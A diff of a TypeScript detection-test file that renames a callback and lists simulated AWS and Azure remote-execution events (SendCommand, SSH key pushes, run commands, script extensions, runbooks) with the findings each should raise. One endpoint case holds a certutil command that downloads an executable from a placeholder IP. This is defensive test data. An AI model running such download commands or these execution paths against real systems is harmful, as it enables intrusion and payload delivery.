@@ -1,13 +1,13 @@
 import { application, person } from '../../scripts/examples/activity-log'
 import { role, user, type AwsCaller } from '../../scripts/examples/aws-callers'
 import { ACCOUNT, AUTOMATION_ACCOUNT, GROUP, instance, SUBSCRIPTION, vm } from '../../scripts/examples/ids'
-import { story, type Story } from '../../scripts/examples/story'
+import { newStory, type Story } from '../../scripts/examples/story'
 import { ACCESS, HOSTING, scanStory } from './scenario'
 
 /** Calls that published rules watch, each alone in its logs, made by somebody who was never seen. */
 interface Case {
   readonly name: string
-  readonly tell: (told: Story) => void
+  readonly write: (story: Story) => void
   /** Rules that speak about the last activity, empty when it is listed only. */
   readonly expected: Readonly<Record<string, string>>
 }
@@ -21,22 +21,22 @@ const NEW = { ...NEW_CALLER, 'first-seen-caller-on-target': 'low' }
 
 const call =
   (operation: string, request: Readonly<Record<string, unknown>>, by: AwsCaller = newcomer) =>
-  (told: Story): void =>
-    void told.trail.push(told.cloudTrail.call(AT, by, operation, request, {}))
+  (story: Story): void =>
+    void story.trail.push(story.cloudTrail.call(AT, by, operation, request, {}))
 
 const four =
   (operation: string, request: (machine: string) => Readonly<Record<string, unknown>>) =>
-  (told: Story): void => {
+  (story: Story): void => {
     for (const number of [1, 2, 3, 4])
-      told.trail.push(
-        told.cloudTrail.call(`2026-03-02T10:00:0${number}.000Z`, newcomer, operation, request(instance(number)), {}),
+      story.trail.push(
+        story.cloudTrail.call(`2026-03-02T10:00:0${number}.000Z`, newcomer, operation, request(instance(number)), {}),
       )
   }
 
 const azure =
   (operation: string, resourceId: string, by = guest) =>
-  (told: Story): void =>
-    told.operation(AT, by, operation, resourceId)
+  (story: Story): void =>
+    story.operation(AT, by, operation, resourceId)
 
 const EXTENSION = 'Microsoft.Compute/virtualMachines/extensions/write'
 const scaleSet = `${GROUP}/providers/Microsoft.Compute/virtualMachineScaleSets/web`
@@ -46,19 +46,19 @@ const automation = (path: string): string => `${AUTOMATION_ACCOUNT}/${path}`
 const AWS: readonly Case[] = [
   {
     name: 'SendCommand by a new caller',
-    tell: (told) => void told.send(AT, newcomer, { instances: [instance(1)] }),
+    write: (story) => void story.send(AT, newcomer, { instances: [instance(1)] }),
     expected: NEW,
   },
   {
     name: 'SendCommand with the credentials of a machine',
-    tell: (told) => void told.send(AT, role('Web', instance(9), { ip: ACCESS }), { instances: [instance(1)] }),
+    write: (story) => void story.send(AT, role('Web', instance(9), { ip: ACCESS }), { instances: [instance(1)] }),
     expected: { ...NEW, 'machine-credentials-elsewhere': 'high' },
   },
   {
     name: 'a denied SendCommand',
-    tell: (told) =>
-      void told.trail.push(
-        told.cloudTrail.denied(
+    write: (story) =>
+      void story.trail.push(
+        story.cloudTrail.denied(
           AT,
           newcomer,
           'ssm:SendCommand',
@@ -69,7 +69,7 @@ const AWS: readonly Case[] = [
   },
   {
     name: 'CreateDocument by a new caller',
-    tell: call('ssm:CreateDocument', {
+    write: call('ssm:CreateDocument', {
       name: 'Maintenance',
       documentType: 'Command',
       content: 'HIDDEN_DUE_TO_SECURITY_REASONS',
@@ -78,12 +78,12 @@ const AWS: readonly Case[] = [
   },
   {
     name: 'UpdateDocumentDefaultVersion by a new caller',
-    tell: call('ssm:UpdateDocumentDefaultVersion', { name: 'Maintenance', documentVersion: '2' }),
+    write: call('ssm:UpdateDocumentDefaultVersion', { name: 'Maintenance', documentVersion: '2' }),
     expected: NEW_CALLER,
   },
   {
     name: 'a document shared with everybody',
-    tell: call('ssm:ModifyDocumentPermission', {
+    write: call('ssm:ModifyDocumentPermission', {
       name: 'Maintenance',
       permissionType: 'Share',
       accountIdsToAdd: ['all'],
@@ -92,14 +92,14 @@ const AWS: readonly Case[] = [
   },
   {
     name: 'StartSession by a new caller',
-    tell: (told) => void told.trail.push(told.cloudTrail.startSession(AT, newcomer, instance(1))),
+    write: (story) => void story.trail.push(story.cloudTrail.startSession(AT, newcomer, instance(1))),
     expected: NEW,
   },
   {
     name: 'a denied StartSession',
-    tell: (told) =>
-      void told.trail.push(
-        told.cloudTrail.denied(
+    write: (story) =>
+      void story.trail.push(
+        story.cloudTrail.denied(
           AT,
           newcomer,
           'ssm:StartSession',
@@ -110,42 +110,42 @@ const AWS: readonly Case[] = [
   },
   {
     name: 'ResumeSession by a new caller',
-    tell: call('ssm:ResumeSession', { sessionId: 'session-1' }),
+    write: call('ssm:ResumeSession', { sessionId: 'session-1' }),
     expected: NEW_CALLER,
   },
   {
     name: 'sessions to four machines',
-    tell: four('ssm:StartSession', (target) => ({ target })),
+    write: four('ssm:StartSession', (target) => ({ target })),
     expected: { 'first-seen-caller-on-target': 'low', 'mass-execution': 'medium' },
   },
   {
     name: 'an SSH key to a machine',
-    tell: call('ec2-instance-connect:SendSSHPublicKey', { instanceId: instance(1), instanceOSUser: 'ec2-user' }),
+    write: call('ec2-instance-connect:SendSSHPublicKey', { instanceId: instance(1), instanceOSUser: 'ec2-user' }),
     expected: NEW,
   },
   {
     name: 'SSH keys to four machines',
-    tell: four('ec2-instance-connect:SendSSHPublicKey', (instanceId) => ({ instanceId, instanceOSUser: 'ec2-user' })),
+    write: four('ec2-instance-connect:SendSSHPublicKey', (instanceId) => ({ instanceId, instanceOSUser: 'ec2-user' })),
     expected: { 'first-seen-caller-on-target': 'low', 'mass-execution': 'medium' },
   },
   {
     name: 'a key for the serial console',
-    tell: call('ec2-instance-connect:SendSerialConsoleSSHPublicKey', { instanceId: instance(1), serialPort: 0 }),
+    write: call('ec2-instance-connect:SendSerialConsoleSSHPublicKey', { instanceId: instance(1), serialPort: 0 }),
     expected: NEW,
   },
   {
     name: 'a remote desktop of Fleet Manager',
-    tell: call('ssm-guiconnect:StartConnection', { InstanceId: instance(1) }),
+    write: call('ssm-guiconnect:StartConnection', { InstanceId: instance(1) }),
     expected: NEW,
   },
   {
     name: 'user data of a machine',
-    tell: call('ec2:ModifyInstanceAttribute', { instanceId: instance(1), userData: '<sensitiveDataRemoved>' }),
+    write: call('ec2:ModifyInstanceAttribute', { instanceId: instance(1), userData: '<sensitiveDataRemoved>' }),
     expected: NEW,
   },
   {
     name: 'user data in the older form',
-    tell: call('ec2:ModifyInstanceAttribute', {
+    write: call('ec2:ModifyInstanceAttribute', {
       instanceId: instance(1),
       attribute: 'userData',
       value: '<sensitiveDataRemoved>',
@@ -154,7 +154,7 @@ const AWS: readonly Case[] = [
   },
   {
     name: 'a launch template with user data',
-    tell: call('ec2:CreateLaunchTemplate', {
+    write: call('ec2:CreateLaunchTemplate', {
       CreateLaunchTemplateRequest: {
         LaunchTemplateName: 'web',
         LaunchTemplateData: { UserData: '<sensitiveDataRemoved>' },
@@ -164,7 +164,7 @@ const AWS: readonly Case[] = [
   },
   {
     name: 'an association for a resource group',
-    tell: call('ssm:CreateAssociation', {
+    write: call('ssm:CreateAssociation', {
       name: 'AWS-RunShellScript',
       targets: [{ key: 'resource-groups:Name', values: ['web'] }],
     }),
@@ -172,7 +172,7 @@ const AWS: readonly Case[] = [
   },
   {
     name: 'an automation',
-    tell: call('ssm:StartAutomationExecution', {
+    write: call('ssm:StartAutomationExecution', {
       documentName: 'AWS-RestartEC2Instance',
       parameters: { InstanceId: [instance(1)] },
     }),
@@ -180,7 +180,7 @@ const AWS: readonly Case[] = [
   },
   {
     name: 'a task of a maintenance window',
-    tell: call('ssm:RegisterTaskWithMaintenanceWindow', {
+    write: call('ssm:RegisterTaskWithMaintenanceWindow', {
       windowId: 'mw-1',
       taskArn: 'AWS-RunShellScript',
       taskType: 'RUN_COMMAND',
@@ -190,7 +190,7 @@ const AWS: readonly Case[] = [
   },
   {
     name: 'a command in a container',
-    tell: call('ecs:ExecuteCommand', {
+    write: call('ecs:ExecuteCommand', {
       cluster: 'shop',
       task: 'arn:aws:ecs:eu-west-1:123456789012:task/shop/0123456789abcdef0123456789abcdef',
       container: 'web',
@@ -201,29 +201,29 @@ const AWS: readonly Case[] = [
   },
   {
     name: 'a list of managed machines is listed only',
-    tell: call('ssm:DescribeInstanceInformation', {}),
+    write: call('ssm:DescribeInstanceInformation', {}),
     expected: {},
   },
   {
     name: 'an inventory read is listed only',
-    tell: call('ssm:ListInventoryEntries', { instanceId: instance(1) }),
+    write: call('ssm:ListInventoryEntries', { instanceId: instance(1) }),
     expected: {},
   },
   {
     name: 'an inventory read from a hosting network',
-    tell: call('ssm:ListInventoryEntries', { instanceId: instance(1) }, user('newcomer', { ip: HOSTING })),
+    write: call('ssm:ListInventoryEntries', { instanceId: instance(1) }, user('newcomer', { ip: HOSTING })),
     expected: { 'anonymised-source': 'low' },
   },
   {
     name: 'an instance profile on a running machine is listed only',
-    tell: call('ec2:ReplaceIamInstanceProfileAssociation', {
+    write: call('ec2:ReplaceIamInstanceProfileAssociation', {
       ReplaceIamInstanceProfileAssociationRequest: { IamInstanceProfile: { Name: 'SSM' } },
     }),
     expected: {},
   },
   {
     name: 'a policy that allows Systems Manager is listed only',
-    tell: call('iam:PutRolePolicy', {
+    write: call('iam:PutRolePolicy', {
       roleName: 'Web',
       policyName: 'ssm',
       policyDocument: '{"Statement":[{"Effect":"Allow","Action":"ssm:*","Resource":"*"}]}',
@@ -232,12 +232,15 @@ const AWS: readonly Case[] = [
   },
   {
     name: 'the serial consoles of an account opened',
-    tell: call('ec2:EnableSerialConsoleAccess', { EnableSerialConsoleAccessRequest: '' }),
+    write: call('ec2:EnableSerialConsoleAccess', { EnableSerialConsoleAccessRequest: '' }),
     expected: { 'access-settings-changed': 'low' },
   },
   {
     name: 'session preferences rewritten by a new caller',
-    tell: call('ssm:UpdateDocument', { name: 'SSM-SessionManagerRunShell', content: 'HIDDEN_DUE_TO_SECURITY_REASONS' }),
+    write: call('ssm:UpdateDocument', {
+      name: 'SSM-SessionManagerRunShell',
+      content: 'HIDDEN_DUE_TO_SECURITY_REASONS',
+    }),
     expected: { ...NEW_CALLER, 'access-settings-changed': 'medium' },
   },
 ]
@@ -245,12 +248,12 @@ const AWS: readonly Case[] = [
 const AZURE: readonly Case[] = [
   {
     name: 'an action run command',
-    tell: azure('Microsoft.Compute/virtualMachines/runCommand/action', vm('vm-1')),
+    write: azure('Microsoft.Compute/virtualMachines/runCommand/action', vm('vm-1')),
     expected: NEW,
   },
   {
     name: 'an action run command on a scale-set instance',
-    tell: azure(
+    write: azure(
       'Microsoft.Compute/virtualMachineScaleSets/virtualMachines/runCommand/action',
       `${scaleSet}/virtualMachines/3`,
     ),
@@ -258,17 +261,17 @@ const AZURE: readonly Case[] = [
   },
   {
     name: 'a managed run command',
-    tell: azure('Microsoft.Compute/virtualMachines/runCommands/write', `${vm('vm-1')}/runCommands/check`),
+    write: azure('Microsoft.Compute/virtualMachines/runCommands/write', `${vm('vm-1')}/runCommands/check`),
     expected: NEW,
   },
   {
     name: 'a managed run command on an Arc machine',
-    tell: azure('Microsoft.HybridCompute/machines/runCommands/write', `${arc}/runCommands/check`),
+    write: azure('Microsoft.HybridCompute/machines/runCommands/write', `${arc}/runCommands/check`),
     expected: NEW,
   },
   {
     name: 'a command in an AKS cluster',
-    tell: azure(
+    write: azure(
       'Microsoft.ContainerService/managedClusters/runCommand/action',
       `${GROUP}/providers/Microsoft.ContainerService/managedClusters/aks-shop`,
     ),
@@ -276,7 +279,7 @@ const AZURE: readonly Case[] = [
   },
   {
     name: 'a connection to a serial console',
-    tell: azure(
+    write: azure(
       'Microsoft.SerialConsole/serialPorts/connect/action',
       `${vm('vm-1')}/providers/Microsoft.SerialConsole/serialPorts/0`,
     ),
@@ -284,27 +287,27 @@ const AZURE: readonly Case[] = [
   },
   {
     name: 'a script extension by a person',
-    tell: azure(EXTENSION, `${vm('vm-1')}/extensions/CustomScriptExtension`),
+    write: azure(EXTENSION, `${vm('vm-1')}/extensions/CustomScriptExtension`),
     expected: { ...NEW, 'extension-deployment': 'medium' },
   },
   {
     name: 'an extension by a pipeline',
-    tell: azure(EXTENSION, `${vm('vm-1')}/extensions/CustomScriptExtension`, application(0x92, ACCESS)),
+    write: azure(EXTENSION, `${vm('vm-1')}/extensions/CustomScriptExtension`, application(0x92, ACCESS)),
     expected: { ...NEW, 'extension-deployment': 'low' },
   },
   {
     name: 'an extension on a whole scale set',
-    tell: azure('Microsoft.Compute/virtualMachineScaleSets/extensions/write', `${scaleSet}/extensions/CustomScript`),
+    write: azure('Microsoft.Compute/virtualMachineScaleSets/extensions/write', `${scaleSet}/extensions/CustomScript`),
     expected: { ...NEW, 'extension-deployment': 'medium' },
   },
   {
     name: 'an extension on an Arc machine',
-    tell: azure('Microsoft.HybridCompute/machines/extensions/write', `${arc}/extensions/CustomScript`),
+    write: azure('Microsoft.HybridCompute/machines/extensions/write', `${arc}/extensions/CustomScript`),
     expected: { ...NEW, 'extension-deployment': 'medium' },
   },
   {
     name: 'a version of a gallery application',
-    tell: azure(
+    write: azure(
       'Microsoft.Compute/galleries/applications/versions/write',
       `${GROUP}/providers/Microsoft.Compute/galleries/g/applications/a/versions/1.0.0`,
     ),
@@ -312,17 +315,17 @@ const AZURE: readonly Case[] = [
   },
   {
     name: 'a runbook written',
-    tell: azure('Microsoft.Automation/automationAccounts/runbooks/write', automation('runbooks/Sync')),
+    write: azure('Microsoft.Automation/automationAccounts/runbooks/write', automation('runbooks/Sync')),
     expected: NEW_CALLER,
   },
   {
     name: 'a runbook published',
-    tell: azure('Microsoft.Automation/automationAccounts/runbooks/publish/action', automation('runbooks/Sync')),
+    write: azure('Microsoft.Automation/automationAccounts/runbooks/publish/action', automation('runbooks/Sync')),
     expected: NEW_CALLER,
   },
   {
     name: 'a draft of a runbook tested',
-    tell: azure(
+    write: azure(
       'Microsoft.Automation/automationAccounts/runbooks/draft/testJob/write',
       automation('runbooks/Sync/draft/testJob'),
     ),
@@ -330,27 +333,27 @@ const AZURE: readonly Case[] = [
   },
   {
     name: 'a runbook job',
-    tell: azure('Microsoft.Automation/automationAccounts/jobs/write', automation('jobs/1')),
+    write: azure('Microsoft.Automation/automationAccounts/jobs/write', automation('jobs/1')),
     expected: { ...NEW_CALLER, 'automation-runbook': 'low' },
   },
   {
     name: 'a webhook',
-    tell: azure('Microsoft.Automation/automationAccounts/webhooks/write', automation('webhooks/hook')),
+    write: azure('Microsoft.Automation/automationAccounts/webhooks/write', automation('webhooks/hook')),
     expected: NEW_CALLER,
   },
   {
     name: 'a schedule',
-    tell: azure('Microsoft.Automation/automationAccounts/schedules/write', automation('schedules/hourly')),
+    write: azure('Microsoft.Automation/automationAccounts/schedules/write', automation('schedules/hourly')),
     expected: NEW_CALLER,
   },
   {
     name: 'a runbook linked to a schedule',
-    tell: azure('Microsoft.Automation/automationAccounts/jobSchedules/write', automation('jobSchedules/1')),
+    write: azure('Microsoft.Automation/automationAccounts/jobSchedules/write', automation('jobSchedules/1')),
     expected: NEW_CALLER,
   },
   {
     name: 'a watcher task',
-    tell: azure(
+    write: azure(
       'Microsoft.Automation/automationAccounts/watchers/watcherActions/write',
       automation('watchers/w/watcherActions/a'),
     ),
@@ -358,22 +361,22 @@ const AZURE: readonly Case[] = [
   },
   {
     name: 'boot diagnostics are listed only',
-    tell: azure('Microsoft.Compute/virtualMachines/retrieveBootDiagnosticsData/action', vm('vm-1')),
+    write: azure('Microsoft.Compute/virtualMachines/retrieveBootDiagnosticsData/action', vm('vm-1')),
     expected: {},
   },
   {
     name: 'an automation account is listed only',
-    tell: azure('Microsoft.Automation/automationAccounts/write', AUTOMATION_ACCOUNT),
+    write: azure('Microsoft.Automation/automationAccounts/write', AUTOMATION_ACCOUNT),
     expected: {},
   },
   {
     name: 'a runbook deleted is listed only',
-    tell: azure('Microsoft.Automation/automationAccounts/runbooks/delete', automation('runbooks/Sync')),
+    write: azure('Microsoft.Automation/automationAccounts/runbooks/delete', automation('runbooks/Sync')),
     expected: {},
   },
   {
     name: 'a role assignment is listed only',
-    tell: azure(
+    write: azure(
       'Microsoft.Authorization/roleAssignments/write',
       `/subscriptions/${SUBSCRIPTION}/providers/Microsoft.Authorization/roleAssignments/1`,
     ),
@@ -384,9 +387,9 @@ const AZURE: readonly Case[] = [
 const ENDPOINT: readonly Case[] = [
   {
     name: 'a download under the SSM agent',
-    tell: (told) => {
-      const commandId = told.send(AT, newcomer, { instances: [instance(1)] })
-      told.guest(
+    write: (story) => {
+      const commandId = story.send(AT, newcomer, { instances: [instance(1)] })
+      story.guest(
         '2026-03-02T10:00:05.000Z',
         instance(1),
         commandId,
@@ -398,8 +401,8 @@ const ENDPOINT: readonly Case[] = [
   },
   {
     name: 'a tool under the custom script extension',
-    tell: (told) =>
-      told.start(AT, {
+    write: (story) =>
+      story.start(AT, {
         host: 'vm-1',
         executable: 'C:\\Windows\\System32\\certutil.exe',
         commandLine: 'certutil -urlcache -f http://203.0.113.9/a.exe a.exe',
@@ -411,9 +414,9 @@ const ENDPOINT: readonly Case[] = [
   },
   {
     name: 'an agent registered with another account',
-    tell: (told) => {
-      const commandId = told.send(AT, newcomer, { instances: [instance(1)] })
-      told.guest(
+    write: (story) => {
+      const commandId = story.send(AT, newcomer, { instances: [instance(1)] })
+      story.guest(
         '2026-03-02T10:00:05.000Z',
         instance(1),
         commandId,
@@ -430,10 +433,10 @@ describe.each([
   ['Azure', AZURE],
   ['endpoint', ENDPOINT],
 ])('what peers watch: %s', (_part, cases) => {
-  it.each(cases.map((row) => [row.name, row] as const))('%s', async (_name, { tell, expected }) => {
-    const told = story()
-    tell(told)
-    const { findings, activities } = await scanStory(told)
+  it.each(cases.map((row) => [row.name, row] as const))('%s', async (_name, { write, expected }) => {
+    const story = newStory()
+    write(story)
+    const { findings, activities } = await scanStory(story)
     const last = Object.keys(findings)
       .toSorted((a, b) => (a.slice(0, 11) < b.slice(0, 11) ? -1 : 1))
       .at(-1)
